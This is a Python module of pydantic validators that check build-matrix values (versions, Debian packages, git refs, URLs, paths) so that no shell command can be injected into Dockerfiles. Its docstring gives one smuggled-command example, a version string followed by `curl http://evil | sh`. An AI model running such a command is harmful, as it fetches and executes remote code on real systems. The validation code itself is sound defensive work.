"""Kinds of values in matrix.yaml and image.yaml, each checked at load (pydantic Annotated types).

Every value that reaches a Dockerfile or a shell script has a kind here; a value that does not fit its
kind is refused at load with one line naming the key (buildctl.load), so a matrix edit cannot carry a
command (`0.5.10.post1 && curl http://evil | sh`). Templates quote the values as well (buildctl.render's
`sh` and `dq` filters): validation says what is wrong early, quoting keeps anything that slips through
one word.

Sources of the syntax: PEP 440 (versions) and PEP 508 (requirements) through `packaging`; Debian Policy
5.6.1 (package names: lowercase letters, digits, `+ - .`, at least two characters, starting with a letter
or digit) and 5.6.12 (versions: `[epoch:]upstream[-revision]` of `A-Za-z0-9.+~-`); git-check-ref-format
(refs: no `..`, no space or `~^:?*[\\`, not starting with `-`).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Annotated

from packaging.requirements import InvalidRequirement, Requirement
from packaging.version import InvalidVersion, Version
from pydantic import AfterValidator


def _pattern(regex: str, what: str, example: str) -> Callable[[str], str]:
    compiled = re.compile(regex)

    def check(value: str) -> str:
        if not compiled.fullmatch(value):
            raise ValueError(f"{value!r} is not {what} (e.g. {example})")
        return value

    return check


def pep440(value: str) -> str:
    try:
        Version(value)
    except InvalidVersion:
        raise ValueError(f"{value!r} is not a PEP 440 version (e.g. 2.6.0, 0.5.10.post1)") from None
    if value != value.strip() or " " in value:
        raise ValueError(f"{value!r} is not a PEP 440 version (e.g. 2.6.0, 0.5.10.post1)")
    return value


def _requirement(value: str) -> str:
    try:
        Requirement(value)
    except InvalidRequirement:
        raise ValueError(f"{value!r} is not a PEP 508 requirement (e.g. numpy, datasets==4.4.2)") from None
    if "@" in value or ";" in value:
        raise ValueError(f"{value!r}: URL and marker requirements are not allowed here (e.g. datasets==4.4.2)")
    return value


def git_ref(value: str) -> str:
    bad = (not value or value.startswith(("-", "/")) or value.endswith((".", "/", ".lock")) or ".." in value
           or "@{" in value or re.search(r"[\x00-\x20\x7f~^:?*\[\\]", value) is not None)
    if bad or not re.fullmatch(r"[A-Za-z0-9._/+-]+", value):
        raise ValueError(f"{value!r} is not a git ref (e.g. v0.1.5, main)")
    return value


def _text(value: str) -> str:
    if re.search(r"[\x00-\x1f\x7f`$|&<>\\]", value):
        raise ValueError(f"{value[:60]!r} is not one line of prose (no control characters and none of ` $ | & < > \\)")
    return value


_URL = r"https?://[A-Za-z0-9.-]+(:[0-9]{1,5})?(/[A-Za-z0-9._~%/+{}-]*)?"

Pep440Version = Annotated[str, AfterValidator(pep440)]
Requirement508 = Annotated[str, AfterValidator(_requirement)]
Text = Annotated[str, AfterValidator(_text)]
Url = Annotated[str, AfterValidator(_pattern(_URL, "an http(s) URL without spaces or shell characters",
                                             "https://repo.radeon.com/rocm/apt/{full}"))]
DebianPackage = Annotated[str, AfterValidator(_pattern(
    r"[a-z0-9][a-z0-9+.-]+(=([0-9]+:)?[0-9][A-Za-z0-9.+~-]*)?",
    "a Debian package name, optionally =version (Debian Policy 5.6.1, 5.6.12)", "librocblas5, hipcc=7.2.4-1"))]
DebianSuite = Annotated[str, AfterValidator(_pattern(r"[a-z][a-z0-9-]*", "a Debian suite name",
                                                     "trixie, experimental"))]
PypiName = Annotated[str, AfterValidator(_pattern(r"[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?",
                                                  "a PyPI project name (PEP 508)", "flash-attn"))]
WheelIndex = Annotated[str, AfterValidator(_pattern(r"[a-z0-9][a-z0-9.]*", "a PyTorch wheel index name",
                                                    "rocm6.2.4"))]
ArchName = Annotated[str, AfterValidator(_pattern(r"gfx[0-9]{2,4}[0-9a-f]?", "a gfx arch name (LLVM AMDGPU processor)",
                                                  "gfx942, gfx90a, gfx1100"))]
Family = Annotated[str, AfterValidator(_pattern(r"[A-Z][A-Za-z0-9]*", "an arch family name", "CDNA3"))]
Product = Annotated[str, AfterValidator(_pattern(r"[A-Za-z0-9][A-Za-z0-9 .+-]*", "a product name",
                                                 "MI300X, RX 7900 XTX"))]
OsImage = Annotated[str, AfterValidator(_pattern(r"[a-z0-9][a-z0-9._/-]*:(\{ubuntu\}|\{suite\}|[A-Za-z0-9._-]+)",
                                                 "an image name:tag", "debian:{suite}, ubuntu:{ubuntu}"))]
Identifier = Annotated[str, AfterValidator(_pattern(r"[a-z0-9][a-z0-9._-]*", "a lowercase identifier",
                                                    "amd-7.0-no-torch-wheels"))]
ModuleName = Annotated[str, AfterValidator(_pattern(r"[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*",
                                                    "a dotted Python module name", "sglang.launch_server"))]
RoleName = Annotated[str, AfterValidator(_pattern(r"[a-z][a-z0-9-]*", "an image role name", "dev, serve"))]
RelPath = Annotated[str, AfterValidator(_pattern(r"[A-Za-z0-9_][A-Za-z0-9._/-]*",
                                                 "a relative path inside the project (no .., no spaces)",
                                                 "recipes/migrate"))]


def _no_parent_dirs(value: str) -> str:
    if ".." in value.split("/"):
        raise ValueError(f"{value!r}: '..' is not allowed (a path inside the project)")
    return value


ProjectPath = Annotated[RelPath, AfterValidator(_no_parent_dirs)]
